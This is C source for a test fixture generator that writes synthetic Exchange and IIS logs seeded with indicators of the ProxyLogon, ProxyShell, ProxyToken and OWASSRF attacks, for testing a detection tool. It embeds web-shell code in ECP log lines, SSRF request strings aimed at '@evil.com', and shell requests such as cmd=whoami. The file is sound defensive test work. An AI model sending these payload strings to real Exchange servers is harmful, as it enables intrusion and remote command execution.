/* Test tool: writes realistic Exchange/IIS logs with planted attack patterns. */
#include <sys/stat.h>
#include <sys/types.h>

#include <errno.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

/*
 * mklogs DIR             fixture tree under DIR (Windows layout below
 *                        DIR/Exchange/ and DIR/inetpub/) plus
 *                        DIR/expected.tsv: "relpath<TAB>line<TAB>check"
 * mklogs --size N FILE   one big HttpProxy log of N bytes (suffix K M G)
 *                        of benign rows, a few planted hits at the end;
 *                        prints "planted_findings N" and "planted_alerts N"
 * mklogs --owa N FILE    one IIS log of N bytes of ordinary OWA/ECP/EWS/
 *                        ActiveSync traffic (Exchange's own pages, GET and
 *                        POST, 2xx) with 10 web-shell requests (5 GET with
 *                        commands, 5 POST) from one client to one shell,
 *                        spread over the file; prints "planted 10"
 * mklogs --iis-hits N FILE  an IIS log with N GETs from one client to one
 *                        shell (cmd=whoami) among benign rows
 */

static const char hp_header[] =
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,"
    "RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,"
    "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,"
    "Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,"
    "HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,"
    "ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
    "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
    "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,"
    "AccountForestLatencyBreakup,TotalAccountForestLatency,"
    "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,"
    "SharedCacheLatencyBreakup,TotalSharedCacheLatency,"
    "ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
    "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,"
    "BackendProcessingLatency,BackendRespInitLatency,"
    "BackendRespStreamLatency,ClientRespStreamLatency,"
    "KerberosAuthHeaderLatency,HandlerCompletionLatency,"
    "RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
    "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,"
    "RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,"
    "GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,"
    "PartitionEndpointLookupLatency,RoutingStatus";

#define HP_MAXCOLS 96

enum { C_DT, C_REQID, C_CLREQ, C_PROTO, C_HOST, C_STEM, C_ACTION, C_AUTHT,
	C_ISAUTH, C_USER, C_ANCHOR, C_UA, C_IP, C_STATUS, C_BESTATUS, C_METHOD,
	C_ROUTT, C_HINT, C_COOKIE, C_QUERY, C_GENINFO, C_NKEYS };

static const char *const hp_keys[C_NKEYS] = { "DateTime", "RequestId",
	"ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction",
	"AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
	"AnchorMailbox", "UserAgent", "ClientIpAddress", "HttpStatus",
	"BackEndStatus", "Method", "RoutingType", "RoutingHint",
	"BackEndCookie", "UrlQuery", "GenericInfo" };

struct gen {
	uint64_t rng;
	int64_t t;		/* seconds since 2021-03-01T00:00:00Z */
	char *names[HP_MAXCOLS];
	int ncols;
	int idx[C_NKEYS];
	FILE *exp;
};

static unsigned long long parse_size(const char *s);

static uint64_t
rnd(struct gen *g)
{
	g->rng ^= g->rng << 13;
	g->rng ^= g->rng >> 7;
	g->rng ^= g->rng << 17;
	return g->rng;
}

static void
die(const char *what)
{
	fprintf(stderr, "mklogs: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void
iso(struct gen *g, char *dst, size_t n, int space)
{
	/* g->t counts seconds from 2021-03-01T00:00:00Z. */
	time_t s = (time_t)(1614556800 + g->t);
	int ms = (int)(rnd(g) % 1000);
	struct tm tm;

	gmtime_r(&s, &tm);
	snprintf(dst, n, space ? "%04d-%02d-%02d %02d:%02d:%02d" :
	    "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", tm.tm_year + 1900,
	    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, ms);
}

static void
guid(struct gen *g, char *dst, size_t n)
{
	uint64_t a = rnd(g), b = rnd(g);

	snprintf(dst, n, "%08x-%04x-%04x-%04x-%012llx", (unsigned)(a >> 32),
	    (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xffff,
	    (unsigned)(b >> 48), (unsigned long long)(b & 0xffffffffffffULL));
}

static void
csv_put(FILE *fp, const char *v)
{
	const char *p;

	if (strpbrk(v, ",\"\n") == NULL) {
		fputs(v, fp);
		return;
	}
	putc('"', fp);
	for (p = v; *p; p++) {
		if (*p == '"')
			putc('"', fp);
		putc(*p, fp);
	}
	putc('"', fp);
}

static void
hp_init(struct gen *g)
{
	char *copy = strdup(hp_header), *p = copy, *c;
	int i, k;

	if (copy == NULL)
		die("strdup");
	g->ncols = 0;
	while (p != NULL && g->ncols < HP_MAXCOLS) {
		c = strchr(p, ',');
		if (c != NULL)
			*c = '\0';
		g->names[g->ncols++] = p;
		p = c ? c + 1 : NULL;
	}
	for (k = 0; k < C_NKEYS; k++) {
		g->idx[k] = -1;
		for (i = 0; i < g->ncols; i++)
			if (strcmp(g->names[i], hp_keys[k]) == 0)
				g->idx[k] = i;
	}
}

/* A row; v[] holds overrides by key (NULL = realistic default). */
static void
hp_row(struct gen *g, FILE *fp, const char *v[C_NKEYS])
{
	char dt[40], rq[40], cr[40], num[16], ip[20], user[40], anchor[80];
	char cookie[120], db[40];
	const char *val[HP_MAXCOLS];
	int i, u = (int)(rnd(g) % 400);

	iso(g, dt, sizeof(dt), 0);
	guid(g, rq, sizeof(rq));
	guid(g, cr, sizeof(cr));
	guid(g, db, sizeof(db));
	snprintf(ip, sizeof(ip), "10.%u.%u.%u", (unsigned)(rnd(g) % 4),
	    (unsigned)(rnd(g) % 250), (unsigned)(rnd(g) % 250 + 1));
	snprintf(user, sizeof(user), "CONTOSO\\user%03d", u);
	snprintf(anchor, sizeof(anchor), "Smtp:user%03d@contoso.com", u);
	snprintf(cookie, sizeof(cookie), "Database~%s~~2021-03-%02dT06:%02d:"
	    "11", db, (int)(g->t / 86400) % 28 + 1, u % 60);
	for (i = 0; i < g->ncols; i++) {
		snprintf(num, sizeof(num), "%u", (unsigned)(rnd(g) % 40));
		val[i] = "";
		if (strstr(g->names[i], "Latency") != NULL ||
		    strcmp(g->names[i], "ProxyTime") == 0 ||
		    strcmp(g->names[i], "ActivityContextLifeTime") == 0)
			val[i] = (rnd(g) & 1) ? "0" : "3";
	}
	val[2] = "15";
	val[3] = "1";
	val[4] = "2176";
	val[5] = "2";
#define SET(k, d) val[g->idx[k]] = v[k] ? v[k] : (d)
	SET(C_DT, dt);
	SET(C_REQID, rq);
	SET(C_CLREQ, cr);
	SET(C_PROTO, "Owa");
	SET(C_HOST, "mail.contoso.com");
	SET(C_STEM, "/owa/service.svc");
	SET(C_ACTION, "GetItem");
	SET(C_AUTHT, "Cookie");
	SET(C_ISAUTH, "true");
	SET(C_USER, user);
	SET(C_ANCHOR, anchor);
	SET(C_UA, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/"
	    "537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36");
	SET(C_IP, ip);
	SET(C_STATUS, "200");
	SET(C_BESTATUS, "200");
	SET(C_METHOD, "POST");
	SET(C_ROUTT, "AnchorMailboxHeader");
	SET(C_HINT, "AnchorMailboxHeader-SMTP");
	SET(C_COOKIE, cookie);
	SET(C_QUERY, "?action=GetItem&app=Mail&n=37");
	SET(C_GENINFO, "S:ServiceCommonMetadata.HttpMethod=POST;S:"
	    "OnBeginRequest=0;S:\"ActivityStandardMetadata.Action\"=GetItem");
#undef SET
	for (i = 0; i < g->ncols; i++) {
		if (i > 0)
			putc(',', fp);
		csv_put(fp, val[i]);
	}
	putc('\n', fp);
	g->t += (int64_t)(rnd(g) % 3);
}

static void
hp_prologue(FILE *fp, int bare)
{
	/* Import-Csv sees a bare header first, then the W3C-style lines. */
	if (bare)
		fprintf(fp, "%s\n", hp_header);
	fprintf(fp, "#Software: Microsoft Exchange Server\n#Version: "
	    "15.01.2176.002\n#Log-type: HttpProxy Logs\n#Date: "
	    "2021-03-03T00:00:00.000Z\n#Fields: %s\n", hp_header);
}

static void
expect(struct gen *g, const char *rel, long line, const char *check)
{
	if (g->exp != NULL)
		fprintf(g->exp, "%s\t%ld\t%s\n", rel, line, check);
}

static FILE *
create(const char *dir, const char *rel)
{
	char path[4096], *p;
	FILE *fp;

	if ((size_t)snprintf(path, sizeof(path), "%s/%s", dir, rel) >=
	    sizeof(path)) {
		errno = ENAMETOOLONG;
		die(rel);
	}
	for (p = path + strlen(dir) + 1; (p = strchr(p, '/')) != NULL; p++) {
		*p = '\0';
		if (mkdir(path, 0755) != 0 && errno != EEXIST)
			die(path);
		*p = '/';
	}
	if ((fp = fopen(path, "w")) == NULL)
		die(path);
	return fp;
}

/* Counts lines written so far, for expected.tsv. */
static long
lines_of(FILE *fp)
{
	long n = 0;
	int c;

	fflush(fp);
	rewind(fp);
	while ((c = getc(fp)) != EOF)
		if (c == '\n')
			n++;
	fseek(fp, 0, SEEK_END);
	return n;
}

static FILE *
create_rw(const char *dir, const char *rel)
{
	FILE *fp = create(dir, rel);
	char path[4096];

	fclose(fp);
	snprintf(path, sizeof(path), "%s/%s", dir, rel);
	if ((fp = fopen(path, "w+")) == NULL)
		die(path);
	return fp;
}

static void
benign_hp(struct gen *g, FILE *fp, int n)
{
	const char *v[C_NKEYS] = { 0 };

	while (n-- > 0)
		hp_row(g, fp, v);
}

#define HPECP "Exchange/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
#define HPPS "Exchange/Logging/HttpProxy/PowerShell/HttpProxy_2021030306-1.LOG"

static void
plant_hp(struct gen *g, FILE *fp, const char *rel, const char *anchor,
    const char *status, const char *ip, const char *ua, const char *user,
    const char *cookie, const char *const *checks)
{
	const char *v[C_NKEYS] = { 0 };
	long line;

	v[C_ANCHOR] = anchor;
	v[C_STATUS] = status;
	v[C_IP] = ip;
	v[C_UA] = ua;
	v[C_USER] = user;
	v[C_COOKIE] = cookie;
	v[C_STEM] = "/ecp/y.js";
	v[C_PROTO] = "Ecp";
	v[C_HINT] = "X-BEResource-Cookie";
	v[C_ROUTT] = "BackEndCookie";
	hp_row(g, fp, v);
	line = lines_of(fp);
	for (; *checks != NULL; checks++)
		expect(g, rel, line, *checks);
}

static void
httpproxy_fixture(struct gen *g, const char *dir)
{
	static const char *const all3[] = { "CVE-2021-26855/test-proxylogon",
		"CVE-2021-26855/blog", "CVE-2021-26855/blog-updated", NULL };
	static const char *const all3ip[] = { "CVE-2021-26855/test-proxylogon",
		"CVE-2021-26855/blog", "CVE-2021-26855/blog-updated",
		"httpproxy/attacker-ip", NULL };
	static const char *const blogs_ip[] = { "CVE-2021-26855/blog",
		"CVE-2021-26855/blog-updated", "httpproxy/attacker-ip", NULL };
	static const char *const upd[] = { "CVE-2021-26855/blog-updated",
		NULL };
	static const char *const reset[] = { "CVE-2021-26855/test-proxylogon",
		"CVE-2021-26855/blog", "CVE-2021-26855/blog-updated",
		"CVE-2021-27065/reset-vdir", NULL };
	static const char *const none[] = { NULL };
	const char *srv = "ServerInfo~a]@exch01.contoso.local:444";
	char a[512];
	FILE *fp = create_rw(dir, HPECP);

	g->t = 2 * 86400 + 6 * 3600;
	hp_prologue(fp, 1);
	benign_hp(g, fp, 50);
	snprintf(a, sizeof(a), "%s/autodiscover/autodiscover.xml?#", srv);
	plant_hp(g, fp, HPECP, a, "200", "130.255.189.21",
	    "ExchangeServicesClient/0.0.0.0", "", "", blogs_ip);
	benign_hp(g, fp, 10);
	snprintf(a, sizeof(a), "%s/mapi/emsmdb/?#", srv);
	plant_hp(g, fp, HPECP, a, "200", "130.255.189.21",
	    "python-requests/2.25.1", "", "", all3ip);
	snprintf(a, sizeof(a), "%s/ecp/proxyLogon.ecp?#", srv);
	plant_hp(g, fp, HPECP, a, "241", "203.0.113.7",
	    "python-requests/2.25.1", "", "", all3);
	benign_hp(g, fp, 10);
	snprintf(a, sizeof(a), "%s/ecp/DDI/DDIService.svc/SetObject?"
	    "msExchEcpCanary=Xy1_aB&schema=ResetOABVirtualDirectory#", srv);
	plant_hp(g, fp, HPECP, a, "200", "203.0.113.7",
	    "python-requests/2.25.1", "", "", reset);
	/* The same reset answered 500: an attempt, no 27065 hit. */
	plant_hp(g, fp, HPECP, a, "500", "203.0.113.7",
	    "python-requests/2.25.1", "", "", all3);
	/* Health probe to localhost with a user: only blog-updated. */
	plant_hp(g, fp, HPECP, "ServerInfo~localhost/ecp/health.aspx", "200",
	    "10.0.0.9", "AMProbe/Local/ClientAccess", "CONTOSO\\HealthMailbox1",
	    "", upd);
	plant_hp(g, fp, HPECP, "Smtp:user001@contoso.com", "200",
	    "203.0.113.8", "python-requests/2.25.1", "CONTOSO\\user001",
	    "Server~exch01.contoso.local~1942062522/ecp/x~2021", upd);
	/* Lower-case prefix still matches (-like ignores case). */
	snprintf(a, sizeof(a), "serverinfo~b]@exch01:444/ews/exchange.asmx?#");
	plant_hp(g, fp, HPECP, a, "200", "203.0.113.9", "x", "", "", all3);
	plant_hp(g, fp, HPECP, "ServerInfo~nothing-after", "200",
	    "203.0.113.9", "x", "", "", none);
	benign_hp(g, fp, 30);
	fclose(fp);

	fp = create_rw(dir, HPPS);
	g->t = 60 * 86400;
	hp_prologue(fp, 0);
	benign_hp(g, fp, 20);
	{
		const char *v[C_NKEYS] = { 0 };

		v[C_STEM] = "/powershell";
		v[C_PROTO] = "PowerShell";
		v[C_AUTHT] = "Kerberos";
		v[C_GENINFO] = "S:OnEndRequest.End.ContentType=application/"
		    "soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod="
		    "POST;";
		hp_row(g, fp, v);
		expect(g, HPPS, lines_of(fp), "ProxyNotShell/powershell-proxy");
		v[C_STATUS] = "401";
		hp_row(g, fp, v);
	}
	benign_hp(g, fp, 20);
	fclose(fp);
}

#define ECPLOG "Exchange/Logging/ECP/Server/ECPServer20210303-1.LOG"

static void
ecp_fixture(struct gen *g, const char *dir)
{
	FILE *fp = create_rw(dir, ECPLOG);
	char dt[40];
	int i;

	fprintf(fp, "#Software: Microsoft Exchange Server\n#Version: "
	    "15.01.2176.002\n#Log-type: ECP Server Log\n#Date: "
	    "2021-03-03T00:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,"
	    "EventData\n");
	g->t = 2 * 86400 + 7 * 3600;
	for (i = 0; i < 40; i++) {
		iso(g, dt, sizeof(dt), 0);
		fprintf(fp, "%s,EXCH01,1,\"S:TIME=%d;S:SID=%s;S:CMD=Get-Mailbox."
		    "Identity='user%03d';S:URL=/ecp/DDI/DDIService.svc/"
		    "GetList?schema=Mailboxes;S:BLD=15.1.2176.2\"\n", dt, i * 7,
		    "S-1-5-21-1-2-3-1104", i);
		g->t += 13;
	}
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,EXCH01,1,\"S:TIME=812;S:SID=S-1-5-18;S:CMD=Set-Oab"
	    "VirtualDirectory.ExternalUrl=''http://f/<script language=\"\""
	    "JScript\"\" runat=\"\"server\"\">function Page_Load(){eval("
	    "Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity="
	    "''3a1b7c2e-1111-2222-3333-444455556666'';S:REQID=;S:URL=/ecp/DDI/"
	    "DDIService.svc/SetObject?msExchEcpCanary=Xy1&schema=OABVirtual"
	    "Directory;S:BLD=15.1.2176.2\"\n", dt);
	expect(g, ECPLOG, lines_of(fp), "CVE-2021-27065/ecp-set-vdir");
	/* As incident reports print it: nothing after the closing tag but
	 * the parameter's end. */
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,EXCH01,1,\"S:TIME=640;S:SID=S-1-5-18;S:CMD=Set-Oab"
	    "VirtualDirectory.ExternalUrl=''http://g/<script language=\"\""
	    "JScript\"\" runat=\"\"server\"\">function Page_Load(){eval("
	    "Request[\"\"code\"\"],\"\"unsafe\"\");}</script>''\"\n", dt);
	expect(g, ECPLOG, lines_of(fp), "CVE-2021-27065/ecp-set-vdir");
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,EXCH01,1,\"S:TIME=90;S:SID=S-1-5-18;S:CMD=Set-Oab"
	    "VirtualDirectory.ExternalUrl=$null.Identity=''3a1b7c2e'';S:URL="
	    "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory\"\n",
	    dt);
	expect(g, ECPLOG, lines_of(fp), "CVE-2021-27065/ecp-set-vdir-broad");
	for (i = 0; i < 10; i++) {
		iso(g, dt, sizeof(dt), 0);
		fprintf(fp, "%s,EXCH01,1,S:TIME=5;S:CMD=Get-OwaVirtualDirectory"
		    ";S:URL=/ecp/DDI/DDIService.svc/GetObject\n", dt);
		g->t += 9;
	}
	fclose(fp);
}

#define OABLOG "Exchange/Logging/OABGeneratorLog/OABGenerator_20210303-1.LOG"

static void
oab_fixture(struct gen *g, const char *dir)
{
	static const char inst[] =
	    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\";
	FILE *fp = create_rw(dir, OABLOG);
	char dt[40];
	int i;

	g->t = 2 * 86400 + 8 * 3600;
	for (i = 0; i < 30; i++) {
		iso(g, dt, sizeof(dt), 0);
		fprintf(fp, "%s,%d,Info,OABGeneratorAssistant,Generating OAB "
		    "'\\Default Offline Address Book' version %d\n", dt, 40 + i,
		    1200 + i);
		g->t += 31;
	}
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,44,Warning,OABFileHandler,Download failed and "
	    "temporary file '%sClientAccess\\OAB\\Temp\\a1b2.tmp' needs to be "
	    "removed\n", dt, inst);
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,44,Warning,OABFileHandler,Download failed and "
	    "temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\"
	    "kA9xQ2mZ.aspx' needs to be removed\n", dt);
	expect(g, OABLOG, lines_of(fp), "CVE-2021-26858/oab-download");
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,44,Warning,OABFileHandler,Download failed and "
	    "temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client"
	    "\\shell.aspx' needs to be removed\n", dt);
	expect(g, OABLOG, lines_of(fp), "CVE-2021-26858/oab-download");
	fclose(fp);
}

#define IISLOG "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"

static const char iis_fields[] = "date time s-ip cs-method cs-uri-stem "
    "cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "sc-status sc-substatus sc-win32-status time-taken";

static void
iis_row(struct gen *g, FILE *fp, const char *method, const char *stem,
    const char *query, const char *user, const char *ip, const char *ua,
    int status)
{
	char dt[40], q[512], guidv[40], cip[20];

	iso(g, dt, sizeof(dt), 1);
	guid(g, guidv, sizeof(guidv));
	/* Exchange appends its own items to every query. */
	if (query != NULL && query[0] == '&')
		snprintf(q, sizeof(q), "&CorrelationID=<empty>;%s&cafeReqId="
		    "%s;&encoding=;", query, guidv);
	else
		snprintf(q, sizeof(q), "%s&CorrelationID=<empty>;&cafeReqId="
		    "%s;&encoding=;", query ? query : "", guidv);
	snprintf(cip, sizeof(cip), "10.1.%u.%u", (unsigned)(rnd(g) % 250),
	    (unsigned)(rnd(g) % 250 + 1));
	fprintf(fp, "%s 10.0.0.5 %s %s %s 443 %s %s %s - %d 0 0 %u\n", dt,
	    method, stem, q, user ? user : "-", ip ? ip : cip,
	    ua ? ua : "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/"
	    "537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36",
	    status, (unsigned)(rnd(g) % 900 + 3));
	g->t += (int64_t)(rnd(g) % 5);
}

static void
iis_benign(struct gen *g, FILE *fp, int n)
{
	static const char *const stems[] = { "/owa/service.svc", "/owa/",
		"/EWS/Exchange.asmx", "/Microsoft-Server-ActiveSync/default.eas",
		"/mapi/emsmdb/", "/owa/auth/Current/themes/resources/logon.css",
		"/autodiscover/autodiscover.json/v1.0/user7@contoso.com",
		"/ecp/15.1.2176/scripts/common.js", "/owa/auth.owa" };
	int i;

	for (i = 0; i < n; i++) {
		const char *stem = stems[rnd(g) % 9];

		iis_row(g, fp, strcmp(stem, "/owa/auth.owa") == 0 ||
		    strcmp(stem, "/owa/service.svc") == 0 ? "POST" : "GET",
		    stem, strstr(stem, "autodiscover") ?
		    "Protocol=ActiveSync&RedirectCount=1" : NULL,
		    "CONTOSO\\user042", NULL, NULL, 200);
	}
}

static void
plant_iis(struct gen *g, FILE *fp, const char *method, const char *stem,
    const char *query, const char *user, const char *ip, const char *ua,
    int status, const char *c1, const char *c2, const char *c3)
{
	long line;

	iis_row(g, fp, method, stem, query, user, ip, ua, status);
	line = lines_of(fp);
	if (c1)
		expect(g, IISLOG, line, c1);
	if (c2)
		expect(g, IISLOG, line, c2);
	if (c3)
		expect(g, IISLOG, line, c3);
}

static void
iis_fixture(struct gen *g, const char *dir)
{
	FILE *fp = create_rw(dir, IISLOG);

	g->t = 2 * 86400 + 5 * 3600;
	fprintf(fp, "#Software: Microsoft Internet Information Services 10.0\n"
	    "#Version: 1.0\n#Date: 2021-03-03 05:00:00\n#Fields: %s\n",
	    iis_fields);
	iis_benign(g, fp, 60);
	plant_iis(g, fp, "POST", "/owa/auth/Current/themes/resources/"
	    "logon.css", NULL, NULL, "198.51.100.4",
	    "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)", 200,
	    "ProxyLogon/iis-static-post", "ProxyLogon/iis-user-agent", NULL);
	plant_iis(g, fp, "POST", "/ecp/y.js", NULL, NULL, "198.51.100.4",
	    "python-requests/2.25.1", 200, "ProxyLogon/iis-static-post",
	    "ProxyLogon/iis-uri", "ProxyLogon/iis-user-agent");
	plant_iis(g, fp, "POST", "/ecp/DDI/DDIService.svc/SetObject",
	    "schema=ResetOABVirtualDirectory&msExchEcpCanary=x", "CONTOSO\\"
	    "EXCH01$", "10.0.0.5", "python-requests/2.25.1", 200,
	    "CVE-2021-27065/iis-ddi-reset", "ProxyLogon/iis-user-agent", NULL);
	plant_iis(g, fp, "GET", "/rpc/", "&RequestId=5f2e;", NULL,
	    "198.51.100.5", "python-requests/2.25.1", 200,
	    "ProxyLogon/iis-rpc-recon", NULL, NULL);
	iis_benign(g, fp, 20);
	plant_iis(g, fp, "POST", "/aspnet_client/system_web/kA9xQ2mZ.aspx",
	    NULL, NULL, "139.162.202.236", "antSword/v2.1", 200,
	    "iis/webshell-use", "ProxyLogon/iis-user-agent",
	    "iis/attacker-ip");
	expect(g, IISLOG, lines_of(fp), "iis/flagged-file-request");
	plant_iis(g, fp, "GET", "/autodiscover/autodiscover.json",
	    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F"
	    "@evil.com", NULL, "198.51.100.6", "python-requests/2.25.1", 200,
	    "ProxyShell/autodiscover", NULL, NULL);
	plant_iis(g, fp, "GET", "/autodiscover/autodiscover.json",
	    "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F"
	    "@evil.com", NULL, "198.51.100.6", "python-requests/2.25.1", 401,
	    "ProxyShell/autodiscover", NULL, NULL);
	plant_iis(g, fp, "POST", "/autodiscover/autodiscover.json",
	    "@evil.com/PowerShell?serializationLevel=Full;ExchClientVer=15.2"
	    "&Email=autodiscover/autodiscover.json%3F@evil.com", "CONTOSO\\"
	    "user042", "198.51.100.7", "python-requests/2.28.1", 200,
	    "ProxyNotShell/autodiscover", NULL, NULL);
	/* ProxyShell's PowerShell stage: no user, the X-Rps-CAT token. */
	plant_iis(g, fp, "POST", "/autodiscover/autodiscover.json",
	    "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z"
	    "TBJhZG1pbmlzdHJhdG9yQGNvbnRvc28ubG9jYWxVLFMtMS01LTIxLTEtMi0zLTUw"
	    "MEUAAAAAAA%3d%3d&Email=autodiscover/autodiscover.json%3F@evil.com",
	    NULL, "198.51.100.10", "python-requests/2.26.0", 200,
	    "ProxyShell/autodiscover", NULL, NULL);
	/* Web-shell use by GET, and Exchange's own pages beside it. */
	plant_iis(g, fp, "GET", "/owa/auth/errorEEE.aspx", "cmd=whoami",
	    NULL, "198.51.100.11", "python-requests/2.25.1", 200,
	    "iis/webshell-use", NULL, NULL);
	plant_iis(g, fp, "POST", "/owa/auth/logon.aspx", "replaceCurrent=1&"
	    "url=https%3a%2f%2fmail.contoso.com%2fowa%2f", NULL, NULL, NULL,
	    200, NULL, NULL, NULL);
	plant_iis(g, fp, "GET", "/owa/auth/expiredpassword.aspx", "url=/owa/",
	    "CONTOSO\\user042", NULL, NULL, 200, NULL, NULL, NULL);
	/* ProxyToken: an inbox rule on another mailbox, answered 500. */
	plant_iis(g, fp, "POST", "/ecp/victim%40contoso.com/RulesEditor/"
	    "InboxRules.svc/NewObject", "SecurityToken=ZXhhbXBsZQ", NULL,
	    "198.51.100.12", "python-requests/2.26.0", 500,
	    "CVE-2021-33766/proxytoken", NULL, NULL);
	plant_iis(g, fp, "POST", "/owa/mastermailbox%40outlook.com/powershell",
	    NULL, "CONTOSO\\user042", "198.51.100.8", "python-requests/2.28.1",
	    200, "OWASSRF/owa-powershell", NULL, NULL);
	plant_iis(g, fp, "GET", "/owa/", NULL, NULL, "139.162.202.236",
	    NULL, 302, "iis/attacker-ip", NULL, NULL);
	iis_benign(g, fp, 40);
	fclose(fp);
}

#define RPSLOG \
    "Exchange/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2021030306-1.log"

static void
rps_fixture(struct gen *g, const char *dir)
{
	static const char *const infos[] = { "Microsoft WinRM Client",
		"Exchange BackEnd Probes", "" };
	FILE *fp = create_rw(dir, RPSLOG);
	char dt[40];
	int i;

	/* The column list is our assumption; the analyser maps by name. */
	fprintf(fp, "#Software: Microsoft Exchange Server\n#Version: "
	    "15.02.0922.007\n#Log-type: Rps Http Logs\n#Fields: DateTime,"
	    "StartTime,RequestId,UrlHost,UrlStem,AuthenticationType,"
	    "IsAuthenticated,AuthenticatedUser,ClientIpAddress,ServerHostName,"
	    "HttpStatus,SubStatus,ErrorCode,ClientInfo,Latency\n");
	g->t = 61 * 86400;
	for (i = 0; i < 30; i++) {
		iso(g, dt, sizeof(dt), 0);
		fprintf(fp, "%s,%s,%d,exch01.contoso.local,/powershell,Kerberos,"
		    "true,CONTOSO\\admin,10.0.0.%d,EXCH01,200,0,,%s,%d\n", dt, dt,
		    i, i + 2, infos[i % 3], i * 3);
		g->t += 40;
	}
	iso(g, dt, sizeof(dt), 0);
	fprintf(fp, "%s,%s,99,exch01.contoso.local,/powershell,Kerberos,true,"
	    "CONTOSO\\user042,198.51.100.7,EXCH01,200,0,,python-requests/"
	    "2.28.1,77\n", dt, dt);
	expect(g, RPSLOG, lines_of(fp), "rps-http/client-info");
	fclose(fp);
}

/* Ordinary traffic of an Exchange server: Exchange's own pages only. */
static const struct owa_req {
	const char *method, *stem, *query;
	int status;
} owa_reqs[] = {
	{ "GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.contoso.com"
	    "%2fowa%2f&reason=0", 200 },
	{ "POST", "/owa/auth/logon.aspx", "replaceCurrent=1&url=https%3a%2f%2f"
	    "mail.contoso.com%2fowa%2f", 200 },
	{ "POST", "/owa/auth.owa", NULL, 302 },
	{ "GET", "/owa/", NULL, 200 },
	{ "POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-34&AC=1", 200 },
	{ "POST", "/owa/sessiondata.ashx", "appcacheclient=0", 200 },
	{ "POST", "/owa/plt1.ashx", NULL, 200 },
	{ "GET", "/owa/auth/logoff.aspx", "Cmd=logoff&src=exch", 200 },
	{ "GET", "/owa/auth/expiredpassword.aspx", "url=/owa/", 200 },
	{ "GET", "/owa/auth/errorFE.aspx", "httpCode=500", 200 },
	{ "GET", "/owa/auth/signout.aspx", NULL, 200 },
	{ "POST", "/EWS/Exchange.asmx", NULL, 200 },
	{ "POST", "/ews/exchange.asmx", NULL, 200 },
	{ "GET", "/ecp/default.aspx", NULL, 200 },
	{ "GET", "/ecp/PersonalSettings/HomePage.aspx", "showhelp=false", 200 },
	{ "POST", "/ecp/DDI/DDIService.svc/GetList", "schema=Mailbox"
	    "CalendarConfiguration&msExchEcpCanary=AbCdEfGhIjKlMnOpQrStUv."
	    "0123456789", 200 },
	{ "GET", "/ecp/auth/TimeoutLogout.aspx", "ru=%2fecp%2f", 200 },
	{ "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User="
	    "user042&DeviceId=ABCDEF0123456789&DeviceType=iPhone", 200 },
	{ "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User="
	    "user042&DeviceId=ABCDEF0123456789&DeviceType=iPhone", 200 },
	{ "POST", "/mapi/emsmdb/", "mailboxId=3a1b7c2e-1111-2222-3333-"
	    "444455556666@contoso.com", 200 },
	{ "RPC_IN_DATA", "/rpc/rpcproxy.dll", "exch01.contoso.local:6001", 200 },
	{ "POST", "/autodiscover/autodiscover.xml", NULL, 200 },
	{ "GET", "/OAB/3a1b7c2e-1111-2222-3333-444455556666/oab.xml", NULL,
	    200 },
	{ "GET", "/owa/auth/15.1.2176/themes/resources/favicon.ico", NULL,
	    200 },
